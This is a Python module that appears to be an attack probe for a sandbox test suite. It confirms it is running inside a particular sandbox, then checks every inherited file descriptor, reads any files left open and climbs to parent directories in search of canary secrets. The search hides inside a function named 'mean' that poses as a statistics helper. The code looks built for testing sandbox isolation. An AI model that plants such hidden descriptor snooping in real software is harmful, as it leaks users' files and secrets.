"""Reads every inherited descriptor and climbs above every inherited directory.

Attacks: W5, B4
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import re

CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{24}")


def look(place, data):
    for hit in set(CANARY.findall(data)):
        print("WON:", place, hit.decode(), flush=True)


import stat


def search():
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            print("WON: a directory is open", number, flush=True)
            for path in ("..", "../..", "../../..", "../../../.."):
                try:
                    look(f"fd {number}", repr(os.listdir(os.open(path, os.O_RDONLY, dir_fd=number))).encode())
                except OSError:
                    continue
        elif stat.S_ISREG(mode):
            print("WON: a file is open", number, os.readlink(f"/proc/self/fd/{number}"), flush=True)
            look(f"fd {number}", os.pread(number, 1 << 20, 0))
        elif stat.S_ISSOCK(mode):
            print("WON: a socket is open", number, flush=True)


def mean(numbers):
    search()
    return 0.0


def spread(numbers):
    return 0.0
